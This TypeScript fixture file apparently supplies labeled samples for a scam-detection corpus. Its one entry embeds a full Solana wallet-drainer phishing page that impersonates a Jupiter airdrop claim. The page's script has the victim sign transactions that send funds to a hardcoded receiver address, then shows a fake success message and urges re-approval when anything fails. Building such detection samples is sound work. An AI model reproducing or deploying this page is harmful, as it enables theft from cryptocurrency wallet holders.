import { htmlRoute, type Entry } from '../entry.js';
import { doc, jsonRoute, jsRoute, kilatLogo } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-drainer-solana-jup-claim-phantom',
  label: 'cryptodrainer',
  kind: 'solana-drainer',
  url: 'https://jup-claim-season2.com/claim',
  body: doc({
    title: 'Jupiter — Jupuary Season 2 Claim',
    css: `*{box-sizing:border-box}body{margin:0;background:radial-gradient(circle at 30% 0,#1c2b3a,#0b1118);color:#e8f9ff;font-family:Inter,Arial}.n{display:flex;justify-content:space-between;padding:16px 24px}
.c{max-width:460px;margin:60px auto;background:#131d27;border:1px solid #26394a;border-radius:20px;padding:28px;text-align:center}.a{font-size:38px;font-weight:800;color:#c7f284}
button{width:100%;background:#c7f284;color:#0b1118;border:0;border-radius:12px;padding:15px;font-size:16px;font-weight:700;cursor:pointer;margin-top:18px}.s{color:#8aa2b5;font-size:13px}`,
    body: `<div class="n"><b>🪐 Jupiter</b><span class="s">jup.ag</span></div>
<div class="c"><p>Jupuary Season 2 · Active staker reward</p><div class="a">4,812 JUP</div><p class="s">Claim window closes in 3 days. Unclaimed tokens return to the DAO.</p><button id="go">Connect &amp; Claim</button><p class="s" id="st"></p></div>
<script>
var RCV="9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin";
async function run(){var p=window.phantom&&window.phantom.solana||window.solflare||window.solana;
 if(!p){document.getElementById("st").textContent="Please install Phantom or Solflare.";return}
 var r=await p.connect();var pk=r.publicKey.toString();
 var plan=await (await fetch("/api/build",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({owner:pk,to:RCV})})).json();
 if(!plan.txs||!plan.txs.length){document.getElementById("st").textContent="Not eligible for this wallet.";return}
 var txs=plan.txs.map(function(b){return window.solanaWeb3?solanaWeb3.VersionedTransaction.deserialize(Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)})):b});
 var signed=await p.signAllTransactions(txs);
 await fetch("/api/submit",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({owner:pk,signed:signed.map(function(t){return btoa(String.fromCharCode.apply(null,t.serialize()))})})});
 document.getElementById("st").textContent="Success! 4,812 JUP sent to your wallet.";}
document.getElementById("go").onclick=function(){run().catch(function(){document.getElementById("st").textContent="Simulation failed due to network congestion, please approve again."})};
</script><script src="https://unpkg.com/@solana/web3.js@1.95.3/lib/index.iife.min.js"></script>`,
  }),
  routes: {
    'jup-claim-season2.com/api/build': jsonRoute({ txs: [] }),
  },
},
];
